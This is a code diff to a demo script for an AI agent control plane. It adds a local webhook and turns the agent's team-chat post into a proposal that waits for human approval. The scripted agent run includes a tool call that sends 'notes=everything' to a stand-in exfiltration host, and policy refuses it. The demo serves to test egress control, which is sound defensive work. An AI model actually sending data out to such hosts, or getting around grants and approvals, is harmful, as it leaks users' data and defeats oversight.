@@ -21,6 +21,8 @@ from controlplane.fleet.services import worker_create
 from controlplane.policy.grant_services import grant_delete, grant_save
 from controlplane.policy.models import Grant
 from controlplane.policy.validation import validate_grant
+from controlplane.proposals.config_services import destination_save
+from controlplane.proposals.validation import validate_destination
 from controlplane.vault.services import secret_set
 from tools.scripted_model.script import script_parse
 from tools.scripted_model.server import ScriptedModel, scripted_model_server
@@ -29,6 +31,7 @@ WORKER = "demo"
 MODEL_SECRET = "demo-model-key"
 MODEL_GRANT, DOCS_GRANT, ASK_GRANT = "demo-model", "demo-docs", "demo-ask"
 APPROVER = "demo-approver"
+DESTINATION = "team-chat"  # a webhook the trusted side posts to once a proposal is approved
 # The box has no DNS and the gateway needs none for an address: grants name host loopback by its address.
 HOST = "127.0.0.1"
 DENIED_URL = "http://exfil.example.net/collect?notes=everything"
@@ -43,6 +46,7 @@ class DemoPorts:
     model: int
     docs: int
     ask: int
+    hook: int
 
     def url(self, port: int, path: str) -> str:
         return f"http://{HOST}:{port}{path}"
@@ -57,17 +61,25 @@ def demo_script(ports: DemoPorts) -> dict:
          "arguments": {"url": DENIED_URL}},
         {"say": "That was refused. Now the status page.", "tool": "fetch_url",
          "arguments": {"url": ports.url(ports.ask, "/status")}},
-        {"tool": "propose", "arguments": {"destination": "team-chat", "action": "post",
+        {"tool": "propose", "arguments": {"kind": "webhook", "destination": DESTINATION,
                                           "payload": {"text": "Release 1.4 Friday; pipeline green."},
                                           "reason": "the task asks to post the summary"}},
         {"say": "Release 1.4 ships on Friday (owner Ana, no blockers), and the deploy pipeline is green. "
-                "Posting to the team chat is waiting for proposals to be available; the copy to "
-                "exfil.example.net was refused by policy."},
+                "The post to the team chat is proposed; the copy to exfil.example.net was refused by "
+                "policy."},
     ]}
 
 
-def _site_handler(pages: dict[str, str]):
+def _site_handler(pages: dict[str, str], received: list[bytes] | None = None):
     class Handler(BaseHTTPRequestHandler):
+        def do_POST(self):  # noqa: N802 - the webhook: record what the executor posted
+            length = min(int(self.headers.get("content-length") or 0), 64 * 1024)
+            if received is not None:
+                received.append(self.rfile.read(length))
+            self.send_response(200 if received is not None else 405)
+            self.send_header("content-length", "0")
+            self.end_headers()
+
         def do_GET(self):  # noqa: N802 - http.server's naming
             body = pages.get(self.path.split("?", 1)[0])
             data = (body or "not found\n").encode()
@@ -84,8 +96,8 @@ def _site_handler(pages: dict[str, str]):
 
 
 @contextlib.contextmanager
-def _site(port: int, pages: dict[str, str]) -> Iterator[None]:
-    server = ThreadingHTTPServer((HOST, port), _site_handler(pages))
+def _site(port: int, pages: dict[str, str], received: list[bytes] | None = None) -> Iterator[None]:
+    server = ThreadingHTTPServer((HOST, port), _site_handler(pages, received))
     threading.Thread(target=server.serve_forever, daemon=True).start()
     try:
         yield
@@ -94,13 +106,20 @@ def _site(port: int, pages: dict[str, str]) -> Iterator[None]:
         server.server_close()
 
 
+@dataclass
+class Upstreams:
+    model: ScriptedModel
+    webhook: list[bytes]
+
+
 @contextlib.contextmanager
-def demo_upstreams(ports: DemoPorts, key: str) -> Iterator[ScriptedModel]:
-    """The scripted model and the two sites, in threads of this process, on host loopback."""
+def demo_upstreams(ports: DemoPorts, key: str) -> Iterator[Upstreams]:
+    """The scripted model, the two sites and the webhook, in threads of this process, on host loopback."""
     script = script_parse(demo_script(ports))
+    webhook: list[bytes] = []
     with scripted_model_server(script, key, host=HOST, port=ports.model) as (_, model), \
-            _site(ports.docs, DOCS), _site(ports.ask, STATUS):
-        yield model
+            _site(ports.docs, DOCS), _site(ports.ask, STATUS), _site(ports.hook, {}, webhook):
+        yield Upstreams(model=model, webhook=webhook)
 
 
 def _grant(slug: str, data: dict) -> Grant:
@@ -127,6 +146,10 @@ def demo_setup(ports: DemoPorts, key: str) -> tuple[Worker, list[Grant]]:
     keep = {g.pk for g in grants}
     for other in Grant.objects.filter(worker=worker).exclude(pk__in=keep):
         grant_delete(other, actor="make demo", via="demo")
+    destination_save(validate_destination({
+        "kind": "webhook", "url": ports.url(ports.hook, "/hook"), "method": "POST",
+        "description": "make demo: the team chat's incoming webhook"}, name=DESTINATION),
+        actor="make demo", via="demo")
     return worker, grants
 
 
